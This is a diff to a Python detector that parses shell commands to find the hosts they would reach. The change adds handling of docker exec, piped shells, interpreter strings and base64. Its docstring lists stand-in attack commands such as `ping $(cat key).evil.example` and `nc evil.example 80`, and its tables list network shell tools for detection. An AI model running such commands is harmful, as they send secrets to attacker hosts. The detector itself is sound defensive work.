@@ -2,9 +2,10 @@
 
 Threat: `curl evil.example/x`, `nc evil.example 80`, `ping $(cat key).evil.example`, `</dev/tcp/…`:
 none of these hosts has a scheme. Read are programs in the places where a shell looks for one, also
-behind `sudo` or `env`, in `$(…)` and after `sh -c`. A host that the shell would only make up
-(`curl $HOST`) is a fault. This raises the bar and is no sandbox: what a program of the project's
-own connects to is not seen.
+behind `sudo` or `docker exec`, in `$(…)`, after `sh -c`, in what is piped into a shell and in the
+strings of a script (`python -c`). A host that the shell would only make up (`curl $HOST`) is a
+fault. Which programs and options are known stands in `programs.py`. This raises the bar and is no
+sandbox: what a program of the project's own connects to is not seen.
 """
 
 from __future__ import annotations
@@ -14,78 +15,46 @@ from collections.abc import Iterator, Sequence
 from itertools import takewhile
 from typing import Literal
 
+from .encodings import views
 from .hosts import Destination, canonical_host, looks_like_host, short
+from .programs import (
+    BEFORE,
+    BY_WAY,
+    CLIENTS,
+    CONNECT,
+    COPY,
+    FIND_RUNS,
+    FIRST,
+    GIT_REMOTE,
+    INTERPRETERS,
+    LONG_BY_WAY,
+    NO_HOST,
+    OF_CURL,
+    RUNNERS,
+    SHELLS,
+    VALUES,
+    WORDS_TOO,
+)
 from .shell import expanded
 
 MAX_CHARS = 20_000
 """Of a longer command line it is only said that it is too long, where it names such a program."""
 _DEEPEST = 4
 
-_VALUES = {
-    "sftp": "BbcDFiloPRSsX",
-    "curl": "odTFKbcDEAuwXmrCYyzHeQtUP",
-    "wget": "oOPaiUtTwQABDIlRX",
-    "ssh": "iFlpcmbEeIQSoLRDwBO",
-    "nc": "pswqIiOPXegG",
-    "ping": "ciIsWwmMQpSTl",
-    "dig": "ptcykbf",
-}
-"""Options of one letter behind which a value follows that is no host."""
-_VALUES |= dict.fromkeys(("ncat", "netcat"), _VALUES["nc"])
-_VALUES |= dict.fromkeys(("aria2c", "axel", "xh", "xhs", "http", "https", "httpie"), "o")
-_PLAIN = (
-    "curlie lynx w3m links lftp ftp tftp telnet mosh nslookup host whois traceroute tracepath mtr "
-    "nmap iwr irm invoke-webrequest invoke-restmethod tnc test-netconnection autossh ping6 fping "
-    "drill"
-)
-_CONNECT = {**dict.fromkeys(_PLAIN.split(), ""), **_VALUES}
-"""Programs that take bare hosts, with their options of one letter that take a value."""
-_BY_WAY = {
-    **dict.fromkeys(("ssh", "autossh", "sftp", "scp"), "JW"),
-    **dict.fromkeys(("nc", "ncat", "netcat"), "xbcTV"),
-    "curl": "x",
-    "ping": "t",
-}
-"""Options of one letter behind which a host may follow: on the way (a jump, a proxy), or because
-some of these programs take no value there."""
-_LONG_BY_WAY = frozenset(("--resolve", "--connect-to", "--dns-servers", "--proxy", "--preproxy"))
-_FIND_RUNS = frozenset(("-exec", "-execdir", "-ok", "-okdir"))
-_NO_HOST = re.compile(
-    r"--(?:output\S*|append-output|input-file|upload-file|data\S*|form|form-string|config|cookie|"
-    r"cookie-jar|cert|key|pass|cacert|capath|crlfile|netrc-file|header|user|user-agent|json|request|"
-    r"oauth2-bearer|method|max-time|max-filesize|connect-timeout|retry|retry-delay|retry-max-time|"
-    r"write-out|dump-header|trace|trace-ascii|stderr|etag-save|etag-compare|hsts|alt-svc|libcurl|"
-    r"post-file|post-data|body-file|body-data|directory-prefix|accept|reject|timeout|limit-rate|"
-    r"range|referer|password|tls-max|noproxy)|"
-    r"-(?i:outfile|infile|headers|body|method|contenttype|useragent|timeoutsec|o[NXGA])"
-)
-"""Long options behind which a value follows that is no host."""
-_OF_CURL = frozenset(("--json", "--form"))
-"""Those that take a value only there."""
-_FIRST, _COPY, _GIT_REMOTE, _BEFORE, _SHELLS = (
-    frozenset(words.split())
-    for words in (
-        # Only the first argument is a host.
-        "ssh sftp mosh autossh telnet nc ncat netcat ping ping6 ftp tftp",
-        # A host is what stands before a colon; for git after some of its commands.
-        "scp rsync git rclone openssl",
-        "clone fetch pull push remote ls-remote submodule archive",
-        # What may stand before a program.
-        "sudo doas env nohup time timeout exec command xargs nice ionice stdbuf setsid busybox "
-        "start export builtin coproc if then else elif while until do ! {",
-        # What reads commands in its turn.
-        "sh bash dash zsh ksh ash fish eval powershell pwsh cmd su watch trap",
-    )
-)
 _NAMED = re.compile(
-    r"(?<![\w.-])(?:" + "|".join(map(re.escape, sorted({*_CONNECT, *_COPY, "socat"}))) + r")\b",
+    r"(?<![\w.-])(?:"
+    + "|".join(map(re.escape, sorted({*CONNECT, *COPY, "socat"})))
+    + r")\b|_proxy=",
     re.IGNORECASE,
 )
 _QUOTES = re.compile(r"""["'\\]""")
 _BRACES = re.compile(r"\{([A-Za-z][^{}\s,\"']*(?:,[^{}\s,\"']*)+)\}")
-_KNOWN = frozenset((*_CONNECT, *_COPY, *_BEFORE, *_SHELLS, "find", "socat"))
+_KNOWN = frozenset((*CONNECT, *COPY, *BEFORE, *SHELLS, *RUNNERS, *INTERPRETERS, "find", "socat"))
+_RUN = _KNOWN - WORDS_TOO - BEFORE
+_ELSEWHERE = _RUN - RUNNERS
+_STRING = re.compile(r"""'([^'\n]*)'|"([^"\n]*)"|`([^`\n]*)`""")
 _BLANK = re.compile(r"\s")
-_DEVICE = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)")
+_DEVICE = re.compile(r"/(?:dev/(?:tcp|udp)|inet[46]?/(?:tcp|udp)/\w*)/([^/\s]+)")
 _SOCAT = re.compile(
     r"(?:tcp|udp|openssl|ssl|sctp|dtls|socks|proxy)[\w-]*:(\[[^\]]*\]|[^:,]+)", re.IGNORECASE
 )
@@ -100,7 +69,7 @@ _QUOTED = re.compile(r"""'([^']*)'|"((?:[^"\\]|\\.)*)"|\\(.)|['"\\]""", re.DOTAL
 _ESCAPED = re.compile(r'\\(["\\$`])')
 _ASSIGNED = re.compile(r"[A-Za-z_]\w*=")
 _SETTING = re.compile(
-    r"(?:(?!no_)\w+_proxy|-o ?(?:hostname|proxyjump|proxycommand))[=\s](.+)", re.I | re.S
+    r"(?:(?!no_)\w+_proxy|url|-o ?(?:hostname|proxyjump|proxycommand))[=\s](.+)", re.I | re.S
 )
 """What a variable, or an option of `ssh`, says of where it goes."""
 _LISTED = re.compile(r"[,:\s]+")
@@ -127,6 +96,9 @@ def command_hosts(text: str) -> Iterator[Destination]:
             yield Destination("", short(text), f"a command of more than {MAX_CHARS} characters")
         else:
             yield from _read(text, _DEEPEST)
+    if "base64" in bare and len(text) <= MAX_CHARS:
+        for decoded in views(text).texts:
+            yield from _read(decoded, _DEEPEST)
 
 
 def names_program(text: str) -> bool:
@@ -141,7 +113,7 @@ def argv_hosts(words: Sequence[str]) -> Iterator[Destination]:
 
 def _read(text: str, depth: int) -> Iterator[Destination]:
     if not depth:
-        yield Destination("", short(text), "commands within commands within commands")
+        yield _too_deep(text)
         return
     inner: list[str] = []
 
@@ -156,8 +128,40 @@ def _read(text: str, depth: int) -> Iterator[Destination]:
             break
     for part in inner:
         yield from _read(part, depth - 1)
-    for words in _commands(text):
+    commands = list(_commands(text))
+    for words in commands:
         yield from _of_command(words, depth)
+    if any(_program(words[0]) in SHELLS for words in commands if words):
+        for words in commands:
+            if words and words[0] in ("echo", "printf"):  # what a shell may be handed
+                yield from _of_command(words[1:], depth)
+                yield from _each_read(words[1:], depth)
+
+
+def _each_read(words: Sequence[str], depth: int) -> Iterator[Destination]:
+    """Words that are commands themselves."""
+    for word in words:
+        if _BLANK.search(word):
+            assigned = _ASSIGNED.match(word)
+            yield from _read(word[assigned.end() :] if assigned else word, depth - 1)
+
+
+def _in_strings(words: Sequence[str], depth: int) -> Iterator[Destination]:
+    """Commands in the strings of programs of another language."""
+    for word in words:
+        for string in filter(None, (a or b or c for a, b, c in _STRING.findall(word))):
+            if _is_command(string):
+                yield from _read(string, depth - 1)
+
+
+def _is_command(text: str) -> bool:
+    """Whether a text begins with a program that is looked into, and says more."""
+    words = text.split(None, 1)
+    return len(words) == 2 and _program(words[0]) in _RUN
+
+
+def _too_deep(text: str) -> Destination:
+    return Destination("", short(text), "commands within commands within commands")
 
 
 def _commands(text: str) -> Iterator[list[str]]:
@@ -190,18 +194,23 @@ def _of_command(words: Sequence[str], depth: int) -> Iterator[Destination]:
     for before, word in zip(("", *words), words, strict=False):
         if setting := _SETTING.match(f"-o {word}" if before == "-o" else word):
             yield from _each(setting[1])
+    if words and _BLANK.search(words[0]) and _is_command(words[0]):
+        yield from _read(words[0], depth - 1)  # `system("curl evil.test")` in a script
     in_shell = False
     for at, word in enumerate(words):
         name = _program(word)
-        if name in _SHELLS and not in_shell:
+        if name in SHELLS and not in_shell:
             in_shell = True
-            for later in words[at + 1 :]:
-                if _BLANK.search(later):
-                    yield from _read(later, depth - 1)
-        if name in _CONNECT:
+            yield from _each_read(words[at + 1 :], depth)
+        if name in INTERPRETERS:
+            yield from _in_strings(words[at + 1 :], depth)
+            return
+        if name in RUNNERS:
+            yield from _run_elsewhere(words[at + 1 :], depth)
+        if name in CONNECT:
             yield from _arguments(name, words[at + 1 :])
             return
-        if name in _COPY:
+        if name in COPY:
             yield from _copied(name, words[at + 1 :])
             return
         if name == "socat":
@@ -213,15 +222,26 @@ def _of_command(words: Sequence[str], depth: int) -> Iterator[Destination]:
             return
         # An option and its value, a number or an assignment belongs to the word before it.
         is_value = at > 0 and words[at - 1][:1] == "-"
-        of_before = name in _BEFORE or name in _SHELLS or word[:1] in ("", "-") or word[0].isdigit()
+        of_before = name in BEFORE or name in SHELLS or word[:1] in ("", "-") or word[0].isdigit()
+        of_before = of_before or word.lower() == "/c"
         if not (of_before or is_value or _ASSIGNED.match(word)):
             return
 
 
 def _run_by_find(words: Sequence[str], depth: int) -> Iterator[Destination]:
-    starts = [at for at, word in enumerate(words) if word in _FIND_RUNS]
-    for start, end in zip(starts, [*starts[1:], len(words)], strict=True):
+    starts = [at for at, word in enumerate(words) if word in FIND_RUNS]
+    for start, end in zip(starts, [*starts[1:], len(words)], strict=False):
         yield from _of_command(list(takewhile(";".__ne__, words[start + 1 : end])), depth)
+
+
+def _run_elsewhere(words: Sequence[str], depth: int) -> Iterator[Destination]:
+    """What runs in a container or on another machine: the first program that is known."""
+    yield from _each_read(words, depth)
+    first = next((at for at, word in enumerate(words) if _program(word) in _ELSEWHERE), None)
+    if first is not None and depth:
+        yield from _of_command(words[first:], depth - 1)
+    elif first is not None:
+        yield _too_deep(words[first])
 
 
 def _program(word: str) -> str:
@@ -241,23 +261,24 @@ def _arguments(program: str, words: Sequence[str]) -> Iterator[Destination]:
                 continue
         if takes == "host":
             yield from _each(rest)
-        elif takes == "nothing" and word[:1] != "-":
-            if not seen or program not in _FIRST:
+        elif takes == "nothing" and word[:1] != "-" and program not in CLIENTS:
+            if not seen or program not in FIRST:
                 yield from _bare(rest.removeprefix("@"))
             seen += not word.isdigit()  # such a number belongs to an option before it
-            if seen > 2 and program in _FIRST:
+            if seen > 2 and program in FIRST:
                 return  # what runs on the other side
 
 
 def _option(program: str, word: str) -> tuple[_Takes, str]:
     """What an option takes, and what of it stands in the same word."""
     name, _, rest = word.partition("=")
-    own = program[:4] == "curl" if name in _OF_CURL else name[:2] == "--" or program not in _VALUES
-    if own and _NO_HOST.fullmatch(name):
+    own = program[:4] == "curl" if name in OF_CURL else name[:2] == "--" or program not in VALUES
+    if own and NO_HOST.fullmatch(name):
         return "value", rest
     if name[:2] == "--":
-        return "host" if rest or name in _LONG_BY_WAY else "nothing", rest
-    values, by_way = _CONNECT.get(program, ""), _BY_WAY.get(program, "")
+        may_be = name in LONG_BY_WAY or (rest and program not in CLIENTS)
+        return "host" if may_be else "nothing", rest
+    values, by_way = CONNECT.get(program, ""), BY_WAY.get(program, "")
     for at, letter in enumerate(word[1:], start=2):
         if letter in values:
             return "value", word[at:]
@@ -269,7 +290,7 @@ def _option(program: str, word: str) -> tuple[_Takes, str]:
 
 def _copied(program: str, words: Sequence[str]) -> Iterator[Destination]:
     """The hosts before a colon, and those on the way."""
-    if program == "git" and not _GIT_REMOTE.intersection(words):
+    if program == "git" and not GIT_REMOTE.intersection(words):
         return
     if program == "openssl" and "s_client" not in words:
         return
